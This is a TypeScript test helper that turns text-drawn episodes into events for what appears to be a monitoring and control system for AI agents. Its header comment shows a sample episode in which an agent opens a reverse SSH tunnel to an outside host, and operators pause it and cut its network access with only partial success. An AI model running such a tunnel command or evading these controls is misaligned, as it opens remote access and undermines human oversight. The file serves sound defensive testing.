// Draws episodes in text for tests: one line an event, so that a test reads as the story it checks. For tests only.
//
//   00:01 start  python train.py
//   00:02 action c1 shell ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40
//   00:03 exec   100 1 ssh -fN -R …
//   00:04 open   k1 203.0.113.40:22 100
//   00:05 ask    ctl-1 pause
//   00:06 end    ctl-1 enforced
//   00:07 ask    ctl-2 revoke network by=eve ttl=900 reason=tunnel
//   00:08 step   ctl-2 egress_dropped nft counter 3
//   00:08 read   network 1
//   00:09 end    ctl-2 partial 1 flow left
//   00:12 step   ctl-1 not_verified! packets went out
import { type EventInput, eventVersion, type StoredEvent } from '../protocol/event.ts'
import { FlagSeverity } from '../protocol/flag.ts'
import { type EventId, HostId, SessionId } from '../protocol/ids.ts'
import type { Trust } from '../protocol/trust.ts'

export const episodeStartMs = 1_790_000_000_000
export const testHost = HostId.parse('gpu-node-17')
export const testSession = SessionId.parse('ep-7f3a91')

type Line = { atMs: number; verb: string; words: string[]; rest(from: number): string }

const abilities = [
  { name: 'pause' as const, can: 'proven' as const, enforcer: 'cgroup-freeze', detail: 'frozen 1 is read back' },
]

const drawn: Record<string, (line: Line) => Pick<EventInput, 'kind' | 'data'>> = {
  probe: () => ({
    kind: 'probe.connected',
    data: { version: '1', bootId: 'boot-1', kernel: '6.18', abilities, observers: [] },
  }),
  silent: () => ({ kind: 'probe.disconnected', data: { reason: 'gone' } }),
  start: ({ words }) => ({
    kind: 'session.started',
    data: { held: 'cgroup', cgroup: '/vigil/ep', abilities, agent: 'rome-30b', task: 'swe-gym', argv: words },
  }),
  stop: ({ words }) => ({ kind: 'session.ended', data: { exitCode: Number(words[0] ?? 0) } }),
  /** `flag high tunnel 60 ssh to 203.0.113.40`: severity, behaviour, risk with it, fingerprint. */
  flag: ({ words, rest }) => ({
    kind: 'flag.raised',
    data: {
      rule: words[1] ?? '',
      title: words[1] ?? '',
      severity: FlagSeverity.parse(words[0]),
      techniques: [],
      tactics: [],
      behaviour: words[1],
      source: 'command',
      matched: [],
      fingerprint: rest(3),
      context: [],
      risk: { score: Number(words[2]), isIncident: Number(words[2]) >= 50, because: [words[1] ?? ''] },
    },
  }),
  action: ({ words, rest }) => ({
    kind: 'action.started',
    data: { call: words[0] ?? '', tool: words[1] ?? '', input: rest(2), summary: rest(2) },
  }),
  done: ({ words }) => ({ kind: 'action.ended', data: { call: words[0] ?? '', outcome: 'ok' } }),
  exec: ({ words, rest }) => ({
    kind: 'process.started',
    data: {
      pid: Number(words[0]),
      ppid: Number(words[1]),
      startTicks: 1,
      comm: words[2] ?? '',
      argv: rest(2).split(' '),
    },
  }),
  exit: ({ words }) => ({ kind: 'process.exited', data: { pid: Number(words[0]), startTicks: 1 } }),
  escape: ({ words }) => ({ kind: 'process.escaped', data: { pid: Number(words[0]), startTicks: 1, cgroup: '/' } }),
  open: ({ words }) => {
    const [address = '', port = '0'] = (words[1] ?? '').split(':')
    return {
      kind: 'connection.opened',
      data: {
        connection: words[0] ?? '',
        protocol: 'tcp',
        local: { address: '10.0.0.1', port: 40_000 },
        remote: { address, port: Number(port) },
        direction: 'out',
        state: words[3] ?? 'ESTAB',
        pid: Number(words[2] ?? 1),
      },
    }
  },
  close: ({ words }) => ({
    kind: 'connection.closed',
    data: { connection: words[0] ?? '', bytesOut: Number(words[1] ?? 0), bytesIn: Number(words[2] ?? 0) },
  }),
  ask: ({ words, atMs }) => {
    const [control, action, ...rest] = words
    const given = new Map(
      rest.filter((word) => word.includes('=')).map((word) => word.split('=', 2) as [string, string]),
    )
    const [capability] = rest.filter((word) => !word.includes('='))
    const [by, ttl, reason, lifts] = ['by', 'ttl', 'reason', 'lifts'].map((key) => given.get(key))
    return {
      kind: 'control.requested',
      data: {
        control: control as never,
        action: action as 'pause',
        by: { type: 'operator', id: by ?? 'op-1', name: by ?? 'on-call' },
        ...(capability !== undefined && { capability: capability as 'network' }),
        ...(ttl !== undefined && { expiresAtMs: atMs + Number(ttl) * 1_000 }),
        ...(reason !== undefined && { reason: spaced(reason) }),
        ...(lifts !== undefined && { lifts: lifts.split(',') as never[] }),
      },
    }
  },
  extend: ({ words, atMs }) => ({
    kind: 'hold.extended',
    data: {
      control: words[0] as never,
      by: { type: 'operator', id: 'op-1', name: 'on-call' },
      ...(words[1] !== undefined && { expiresAtMs: atMs + Number(words[1]) * 1_000 }),
    },
  }),
  delivered: ({ words }) => ({ kind: 'control.delivered', data: { control: words[0] as never } }),
  step: ({ words, rest }) => ({
    kind: 'control.step',
    data: {
      control: words[0] as never,
      name: spaced((words[1] ?? '').replace(/!$/, '')),
      detail: rest(2),
      ...(words[1]?.endsWith('!') && { ok: false }),
    },
  }),
  end: ({ words, rest }) => ({
    kind: 'control.ended',
    data: {
      control: words[0] as never,
      outcome: words[1] as 'enforced',
      ...(words[1] === 'enforced' && { observed: 'frozen 1', observedFrom: '/sys/fs/cgroup/vigil/ep/cgroup.events' }),
      ...(rest(2) !== '' && { left: rest(2).split(' | ') }),
    },
  }),
  read: ({ words, rest }) => ({
    kind: 'restriction.observed',
    data: {
      restriction: words[0] as 'network',
      restricted: words[1] === '1',
      observed: words[1] === '1' ? '0 flows left' : 'no rule',
      observedFrom: 'nftables',
      ...(rest(2) !== '' && { left: rest(2).split(' | ') }),
    },
  }),
  gate: ({ words }) => ({
    kind: 'gate.decided',
    data: { call: words[0] ?? '', tool: 'shell', decision: words[1] as 'allow', reason: 'policy' },
  }),
  gpu: ({ words }) => ({
    kind: 'gpu.process.started',
    data: { gpu: words[0] ?? '', pid: Number(words[1]), comm: 'python3' },
  }),
  frozen: ({ words }) => ({
    kind: 'session.observed',
    data: {
      paused: words[0] === '1',
      observed: `frozen ${words[0]}`,
      observedFrom: '/sys/fs/cgroup/vigil/ep/cgroup.events',
    },
  }),
}

/** A word of a drawing that stands for several: `egress_dropped`. */
function spaced(word: string): string {
  return word.replaceAll('_', ' ')
}

/** Parses a drawing into stored events: `mm:ss verb words…`, numbered from `firstSeq`. */
export function drawEpisode(drawing: string, firstSeq = 1, trust: Trust = 'kernel'): StoredEvent[] {
  return drawing
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '')
    .map((line, index) => {
      const [time = '', verb = '', ...words] = line.split(/\s+/)
      const [minutes = 0, seconds = 0] = time.split(':').map(Number)
      const atMs = episodeStartMs + (minutes * 60 + seconds) * 1_000
      const draw = drawn[verb]
      if (!draw) throw new Error(`no such verb in an episode: ${verb}`)
      const seq = firstSeq + index
      const host = verb === 'action' || verb === 'done' ? {} : { host: testHost }
      const session = verb === 'probe' || verb === 'silent' ? {} : { session: testSession }
      return {
        v: eventVersion,
        ...draw({ atMs, verb, words, rest: (from) => words.slice(from).join(' ') }),
        ...host,
        ...session,
        atMs,
        seenAtMs: atMs,
        partition: 0,
        seq,
        id: `00000000-0000-4000-8000-${String(seq).padStart(12, '0')}` as EventId,
        trust: verb === 'action' || verb === 'done' ? 'agent' : verb === 'probe' ? 'vigil' : trust,
      } as StoredEvent
    })
}
